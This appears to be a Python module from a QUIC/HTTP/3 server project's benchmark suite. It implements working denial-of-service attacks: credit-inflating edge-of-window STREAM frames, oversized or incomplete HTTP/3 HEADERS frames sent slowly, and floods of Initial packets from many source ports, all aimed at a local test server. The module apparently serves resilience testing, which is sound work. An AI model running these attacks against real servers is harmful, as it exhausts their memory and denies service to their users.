"""Attacks below MoQ, for :mod:`benchmarks.attacks`: raw QUIC and HTTP/3 written by hand.

* :func:`edge_frames`: one-byte STREAM frames at the last offset the server
  allows, on many streams of several connections, round after round (each
  round reads the MAX_STREAM_DATA / MAX_DATA the server sent back). Against
  a receiver that grants credit on arrival, each round doubles its windows
  and the gaps before the frames are allocated (aioquic issue #589).
* :func:`dribbled_headers`: HTTP/3 request streams whose HEADERS frame
  declares 2^40 bytes, followed by many MiB sent a KiB at a time.
* :func:`spoofed_initials`: client Initial packets from as many source
  ports, never followed by anything (what a spoofer can send).

The clients are aioquic's own; the hostile frames are built with its packet
builder on the client connection's keys, as the tests do.
"""

from __future__ import annotations

import asyncio
import contextlib
import socket
import ssl
import time
from collections import Counter
from collections.abc import AsyncIterator, Callable
from typing import Any

from aioquic import tls
from aioquic.asyncio.client import connect
from aioquic.asyncio.protocol import QuicConnectionProtocol
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection
from aioquic.quic.events import ConnectionTerminated, QuicEvent, StopSendingReceived, StreamReset
from aioquic.quic.packet import QuicFrameType, QuicPacketType
from aioquic.quic.packet_builder import QuicPacketBuilder

from moqt_asgi.protocol.wire import encode_varint
from moqt_asgi.testing.netsim import packet_types

from ._attack_common import HOST, MIB, Sent, size

HEADERS_FRAME = 0x01
CONNECT_TIMEOUT = 10.0
CLOSE_TIMEOUT = 1.0
GROWTH_WAIT = 1.0
"""Most seconds to wait for more credit after a round of edge frames."""
STABLE = 0.2
"""Seconds without a change after which the credit a round earned is all in."""


class RawClient(QuicConnectionProtocol):
    """An aioquic client that remembers how its connection ended and which streams the server reset."""

    def __init__(self, *args: Any, **kwargs: Any) -> None:
        super().__init__(*args, **kwargs)
        self.closed: ConnectionTerminated | None = None
        self.reset: set[int] = set()
        """Streams the server reset or asked us to stop sending on."""

    def quic_event_received(self, event: QuicEvent) -> None:
        if isinstance(event, ConnectionTerminated):
            self.closed = event
        elif isinstance(event, StreamReset | StopSendingReceived):
            self.reset.add(event.stream_id)


def client_configuration(alpn: str, **kwargs: Any) -> QuicConfiguration:
    return QuicConfiguration(is_client=True, alpn_protocols=[alpn], verify_mode=ssl.CERT_NONE, server_name="localhost",
                             **kwargs)


@contextlib.asynccontextmanager
async def raw_clients(port: int, count: int, alpn: str, **kwargs: Any) -> AsyncIterator[list[RawClient]]:
    """``count`` handshaken raw clients (ALPN ``alpn``); closed on exit, waiting at most a second for a dead server."""
    entered: list[tuple[contextlib.AbstractAsyncContextManager[QuicConnectionProtocol], RawClient]] = []
    try:
        for _ in range(count):
            connecting = connect(HOST, port, configuration=client_configuration(alpn, **kwargs),
                                 create_protocol=RawClient)
            client = await asyncio.wait_for(connecting.__aenter__(), CONNECT_TIMEOUT)
            assert isinstance(client, RawClient)
            entered.append((connecting, client))
        yield [client for _, client in entered]
    finally:
        await asyncio.gather(*(_leave(connecting, client) for connecting, client in entered))


async def _leave(connecting: contextlib.AbstractAsyncContextManager[QuicConnectionProtocol], client: RawClient) -> None:
    try:
        await asyncio.wait_for(connecting.__aexit__(None, None, None), CLOSE_TIMEOUT)
    except Exception:
        if client._transport is not None:
            client._transport.close()


# -- C1: edge-of-window STREAM frames
def inject_stream_frame(client: RawClient, stream_id: int, offset: int, data: bytes) -> int:
    """Send one STREAM frame at any offset in a 1-RTT packet of its own; returns the datagram bytes."""
    quic: Any = client._quic
    builder = QuicPacketBuilder(host_cid=quic.host_cid, peer_cid=quic._peer_cid.cid, version=quic._version,
                                is_client=True, max_datagram_size=1200, packet_number=quic._packet_number,
                                spin_bit=quic._spin_bit)
    builder.start_packet(QuicPacketType.ONE_RTT, quic._cryptos[tls.Epoch.ONE_RTT])
    buf = builder.start_frame(QuicFrameType.STREAM_BASE | 0x04 | 0x02, capacity=64 + len(data))  # OFF and LEN bits
    buf.push_uint_var(stream_id)
    buf.push_uint_var(offset)
    buf.push_uint_var(len(data))
    buf.push_bytes(data)
    datagrams, _ = builder.flush()
    quic._packet_number = builder.packet_number
    addr = quic._network_paths[0].addr
    transport = client._transport
    assert transport is not None
    sent = 0
    for datagram in datagrams:
        transport.sendto(datagram, addr)
        sent += len(datagram)
    return sent


def _credit(clients: list[RawClient], streams: int) -> list[int]:
    """Every limit the server gave each client: MAX_DATA, then each stream's MAX_STREAM_DATA."""
    limits = []
    for client in clients:
        quic: Any = client._quic
        limits.append(quic._remote_max_data)
        for index in range(streams):
            stream = quic._streams.get(4 * index)
            limits.append(0 if stream is None else stream.max_stream_data_remote)
    return limits


async def _collect_credit(clients: list[RawClient], streams: int, stop: Callable[[], bool]) -> None:
    """Until the server's MAX_DATA / MAX_STREAM_DATA stop changing (or :data:`GROWTH_WAIT`).

    A receiver that writes its limits only into packets it sends anyway
    (acknowledgements) is asked for some: each client sends a PING every
    few tens of milliseconds meanwhile.
    """
    deadline = time.monotonic() + GROWTH_WAIT
    last, stable_since = _credit(clients, streams), time.monotonic()
    while time.monotonic() < deadline and time.monotonic() - stable_since < STABLE and not stop():
        for client in clients:
            if client.closed is None:
                client._quic.send_ping(0)
                client.transmit()
        await asyncio.sleep(0.03)
        now = _credit(clients, streams)
        if now != last:
            last, stable_since = now, time.monotonic()


async def edge_frames(port: int, sent: Sent, *, connections: int, streams: int, rounds: int,
                      stop: Callable[[], bool]) -> None:
    """Per round, on every stream of every connection, one byte at the last offset the server allows.

    The offset is the stream's MAX_STREAM_DATA, kept within what the
    connection's MAX_DATA leaves; a server that never raises them without
    reads gets one frame per stream and then nothing fits. ``stop`` ends the
    attack early (the server's memory passed the ceiling). Only the edge
    frames' datagrams are counted as sent (not the handshakes, PINGs and
    acknowledgements).
    """
    sent.unit, sent.connections, sent.streams = "frames", connections, connections * streams
    async with raw_clients(port, connections, "moql") as clients:
        highest: list[dict[int, int]] = [{} for _ in clients]
        for client in clients:
            for index in range(streams):
                client._quic.send_stream_data(4 * index, b"")  # the stream exists here: we learn its MAX_STREAM_DATA
            client.transmit()
        await asyncio.sleep(0.1)
        for done in range(1, rounds + 1):
            before = _credit(clients, streams)
            injected = 0
            for client, high in zip(clients, highest, strict=True):
                quic: Any = client._quic
                if client.closed is not None:
                    continue
                for index in range(streams):
                    stream_id = 4 * index
                    room = quic._remote_max_data - sum(high.values())
                    stream = quic._streams.get(stream_id)
                    if stream is None:
                        continue
                    limit = stream.max_stream_data_remote
                    top = min(limit, high.get(stream_id, 0) + room)
                    if top <= high.get(stream_id, 0):
                        continue
                    sent.bytes += inject_stream_frame(client, stream_id, top - 1, b"x")
                    sent.requests += 1
                    high[stream_id] = top
                    injected += 1
                client.transmit()  # our acknowledgements
                await asyncio.sleep(0)
            offered = sum(sum(high.values()) for high in highest)
            sent.summary = (f"{connections} conns x {streams} streams, {done} rounds: {sent.requests} one-byte frames "
                            f"({size(sent.bytes)} of datagrams) at offsets that add up to {size(offered)}")
            await _collect_credit(clients, streams, stop)
            if stop():
                sent.notes.append("stopped: the server passed the memory ceiling")
                break
            if _credit(clients, streams) == before and not injected:
                break  # nothing fits and no credit came: the windows hold


# -- H2: HEADERS declaring 2^40 bytes, then MiB dribbled
async def _dribble(port: int, budget: int, chunk: int) -> tuple[int, int, str]:
    """One connection: ``(bytes written, bytes the server acknowledged, how it ended)``."""
    async with raw_clients(port, 1, "h3", max_data=64 * MIB, max_stream_data=64 * MIB) as (client,):
        quic: Any = client._quic
        stream_id = quic.get_next_available_stream_id()
        quic.send_stream_data(stream_id, bytes([HEADERS_FRAME]) + encode_varint(1 << 40))
        payload = b"h" * chunk
        written = 0
        while written < budget and client.closed is None:
            quic.send_stream_data(stream_id, payload)
            written += chunk
            client.transmit()
            await asyncio.sleep(0)
            stream = quic._streams.get(stream_id)
            while stream is not None and client.closed is None and \
                    stream.sender._buffer_stop - stream.sender.highest_offset > 64 * 1024:  # noqa: ASYNC110
                await asyncio.sleep(0.002)  # stay a dribble: at most 64 KiB waiting to be sent (aioquic has no event)
        # wait until the server has taken everything (acknowledged), or the connection ended
        stream = quic._streams.get(stream_id)
        deadline = time.monotonic() + 120
        while client.closed is None and stream is not None and stream.sender._buffer_start < stream.sender._buffer_stop \
                and time.monotonic() < deadline:  # noqa: ASYNC110 - polling aioquic's state, which has no event
            await asyncio.sleep(0.05)
        acked = int(stream.sender._buffer_start) if stream is not None else 0
        ended = "open" if client.closed is None else f"closed 0x{client.closed.error_code:x}"
        return written, acked, ended


async def dribbled_headers(port: int, sent: Sent, *, connections: int, budget: int, chunk: int = 1024) -> None:
    """``connections`` connections at once, each declaring a 2^40-byte HEADERS frame and dribbling ``budget`` bytes."""
    sent.requests, sent.unit, sent.connections, sent.streams = connections, "HEADERS", connections, connections
    sent.extra["taken"] = connections * budget  # at most; replaced by what the server acknowledged
    results = await asyncio.gather(*(_dribble(port, budget, chunk) for _ in range(connections)))
    written = sent.bytes = sum(r[0] for r in results)
    acked = sum(r[1] for r in results)
    endings = Counter(r[2] for r in results)
    sent.summary = (f"{connections} conns, HEADERS of 2^40 B + up to {budget / MIB:.0f} MiB each in {chunk} B writes: "
                    f"{written / MIB:.2f} MiB written, {acked / MIB:.2f} MiB taken; "
                    + ", ".join(f"{n} {how}" for how, n in endings.items()))
    sent.extra["taken"] = acked


def _unacknowledged(quic: Any, stream_ids: list[int]) -> bool:
    """Whether any of these streams has bytes the peer has not acknowledged yet."""
    return any(quic._streams[s].sender._buffer_start < quic._streams[s].sender._buffer_stop
               for s in stream_ids if s in quic._streams)


async def held_headers(port: int, sent: Sent, *, connections: int, streams: int, declared: int, hold: float) -> None:
    """``connections`` connections at once, each opening ``streams`` request streams whose HEADERS frame of
    ``declared`` bytes stops one byte short.

    Every frame is under the server's cap, so it is buffered until complete,
    which never happens: the server holds ``declared - 1`` bytes per stream
    until its request-header deadline. ``hold`` seconds after the server
    took the last byte, the attacker leaves.
    """
    sent.requests, sent.unit = connections * streams, "HEADERS"
    sent.connections, sent.streams = connections, connections * streams
    header = bytes([HEADERS_FRAME]) + encode_varint(declared)
    body = b"q" * (declared - 1)
    started = time.monotonic()
    async with raw_clients(port, connections, "h3") as clients:

        async def send_all(client: RawClient) -> list[int]:
            quic: Any = client._quic
            opened = []
            for _ in range(streams):
                stream_id = quic.get_next_available_stream_id()
                quic.send_stream_data(stream_id, header + body)
                opened.append(stream_id)
                sent.bytes += len(header) + len(body)
                client.transmit()
                await asyncio.sleep(0)
            deadline = time.monotonic() + 120
            while client.closed is None and time.monotonic() < deadline and _unacknowledged(quic, opened):  # noqa: ASYNC110
                await asyncio.sleep(0.05)  # until the server took every byte (aioquic has no event for it)
            return opened

        opened = await asyncio.gather(*(send_all(client) for client in clients))
        taken_in = time.monotonic() - started
        await asyncio.sleep(hold)
        reset = sum(len(client.reset.intersection(ids)) for client, ids in zip(clients, opened, strict=True))
        closed = sum(client.closed is not None for client in clients)
    sent.summary = (f"{connections} conns x {streams} request streams, each a HEADERS frame of {size(declared)} one byte "
                    f"short ({size(sent.bytes)}, taken in {taken_in:.1f} s); {reset} streams reset by the server "
                    f"{hold:g} s later, {closed} connections closed")


# -- H3: Initials from spoofed source ports
def initial_datagram(port: int) -> bytes:
    """The first datagram of a fresh client: an Initial of at least 1200 bytes, with its own connection ids."""
    client = QuicConnection(configuration=client_configuration("moql"))
    client.connect((HOST, port), now=time.monotonic())
    return bytes(client.datagrams_to_send(now=time.monotonic())[0][0])


def initial_datagrams(port: int, count: int) -> list[bytes]:
    return [initial_datagram(port) for _ in range(count)]


async def spoofed_initials(port: int, sent: Sent, datagrams: list[bytes], *, per_second: int = 1000) -> None:
    """Each datagram from a source port of its own, at ``per_second``; then what came back to each port."""
    sent.unit = "Initials"
    loop = asyncio.get_running_loop()
    sockets: list[socket.socket] = []
    answers: Counter[str] = Counter()
    try:
        for _ in datagrams:
            sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            sock.bind((HOST, 0))
            sock.setblocking(False)
            sockets.append(sock)
        burst = max(1, per_second // 40)
        started = loop.time()
        for index in range(0, len(datagrams), burst):
            for sock, datagram in zip(sockets[index:index + burst], datagrams[index:index + burst], strict=True):
                with contextlib.suppress(BlockingIOError):
                    sock.sendto(datagram, (HOST, port))
                    sent.bytes += len(datagram)
                    sent.requests += 1
            await asyncio.sleep(max(0.0, started + (index + burst) / per_second - loop.time()))
        await asyncio.sleep(1.0)
        for sock in sockets:
            kinds: list[str] = []
            with contextlib.suppress(BlockingIOError):
                while True:
                    kinds += packet_types(sock.recv(65536))
            answers[_answer_kind(kinds)] += 1
    finally:
        for sock in sockets:
            sock.close()
    sent.connections = answers["handshake"]
    sent.summary = (f"{sent.requests} Initials ({size(sent.bytes)}) from as many source ports at {per_second}/s; "
                    "answered: " + ", ".join(f"{n} {kind}" for kind, n in sorted(answers.items())))
    sent.extra.update({f"answer_{kind}": float(n) for kind, n in answers.items()})


def _answer_kind(kinds: list[str]) -> str:
    if not kinds:
        return "nothing"
    if "retry" in kinds:
        return "retry"
    if "handshake" in kinds:
        return "handshake"
    return "refused"
